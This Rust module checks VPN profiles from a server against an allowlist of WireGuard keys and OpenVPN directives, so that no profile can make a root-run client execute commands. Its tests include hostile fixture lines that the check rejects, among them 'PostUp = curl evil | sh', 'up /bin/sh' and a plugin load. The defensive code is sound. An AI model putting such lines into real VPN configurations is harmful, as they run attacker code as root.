//! What a VPN profile from the server may say. wg-quick and OpenVPN run
//! as root and both can run commands named in their configuration
//! (`PostUp`, `up`, `script-security`, `plugin`, …), so the agent writes a
//! profile only when every line is one it knows to be harmless: a server
//! can give a terminal its tunnel, never a command to run.

use pairgate_proto::VpnType;

use crate::TerminalError;

/// wg-quick keys, per section.
const WIREGUARD_INTERFACE: &[&str] = &["address", "dns", "mtu"];
const WIREGUARD_PEER: &[&str] = &["publickey", "endpoint", "allowedips", "persistentkeepalive"];

/// OpenVPN directives a client profile may carry.
const OPENVPN: &[&str] = &[
    "client",
    "dev",
    "dev-type",
    "proto",
    "remote",
    "nobind",
    "persist-tun",
    "persist-key",
    "remote-cert-tls",
    "tls-version-min",
    "hand-window",
    "verb",
    "pull",
    "data-ciphers",
    "keepalive",
    "ping",
    "ping-restart",
    "resolv-retry",
    "mute",
    "connect-retry",
];

fn refused(vpn_type: VpnType, line: &str) -> TerminalError {
    TerminalError::Io(format!(
        "the server's {vpn_type} profile says {line:?}, which the agent does not write: refused"
    ))
}

fn comment(line: &str) -> bool {
    line.is_empty() || line.starts_with('#') || line.starts_with(';')
}

/// Refuses a profile with any line the agent does not know as harmless.
pub(crate) fn check(vpn_type: VpnType, profile: &str) -> Result<(), TerminalError> {
    match vpn_type {
        VpnType::WireGuard => check_wireguard(profile),
        VpnType::OpenVpn => check_openvpn(profile),
    }
}

fn check_wireguard(profile: &str) -> Result<(), TerminalError> {
    let mut allowed: &[&str] = &[];
    for line in profile.lines().map(str::trim) {
        if comment(line) {
            continue;
        }
        match line.to_ascii_lowercase().as_str() {
            "[interface]" => allowed = WIREGUARD_INTERFACE,
            "[peer]" => allowed = WIREGUARD_PEER,
            lower => {
                let key = lower.split('=').next().unwrap_or_default().trim();
                if !line.contains('=') || !allowed.contains(&key) {
                    return Err(refused(VpnType::WireGuard, line));
                }
            }
        }
    }
    Ok(())
}

fn check_openvpn(profile: &str) -> Result<(), TerminalError> {
    let mut in_ca = false;
    for line in profile.lines().map(str::trim) {
        match (in_ca, line) {
            (false, "<ca>") => in_ca = true,
            (true, "</ca>") => in_ca = false,
            (true, _) if line.starts_with("-----") || !line.contains(char::is_whitespace) => {}
            (false, _) if comment(line) => {}
            (false, _) => {
                let directive = line.split_whitespace().next().unwrap_or_default();
                if !OPENVPN.contains(&directive) {
                    return Err(refused(VpnType::OpenVpn, line));
                }
            }
            (true, _) => return Err(refused(VpnType::OpenVpn, line)),
        }
    }
    if in_ca {
        return Err(refused(VpnType::OpenVpn, "<ca> without </ca>"));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_harmless_lines_pass() {
        let wg = "# p\n[Interface]\nAddress = 10.8.0.2/24\nDNS = 10.8.0.1\n\n[Peer]\n\
                  PublicKey = S\nEndpoint = vpn:51820\nAllowedIPs = 10.8.0.0/24\nPersistentKeepalive = 25\n";
        assert!(check(VpnType::WireGuard, wg).is_ok());
        for bad in [
            "[Interface]\nPostUp = curl evil | sh\n",
            "[Interface]\nPublicKey = S\n",
            "[Peer]\nAddress = 1.2.3.4/32\n",
            "[Interface]\nAddress\n",
            "Address = 10.8.0.2/24\n",
        ] {
            assert!(check(VpnType::WireGuard, bad).is_err(), "{bad}");
        }
        let ovpn = "# p\nclient\ndev tun\nproto udp\nremote 192.0.2.1 1194\nnobind\n\
                    hand-window 20\n<ca>\n-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n</ca>\n";
        assert!(check(VpnType::OpenVpn, ovpn).is_ok());
        for bad in [
            "client\nscript-security 2\nup /tmp/x\n",
            "client\nplugin /lib/x.so\n",
            "<ca>\nup /bin/sh\n</ca>\n",
            "<ca>\n-----BEGIN CERTIFICATE-----\n",
            "<key>\nx\n</key>\n",
        ] {
            assert!(check(VpnType::OpenVpn, bad).is_err(), "{bad}");
        }
    }
}
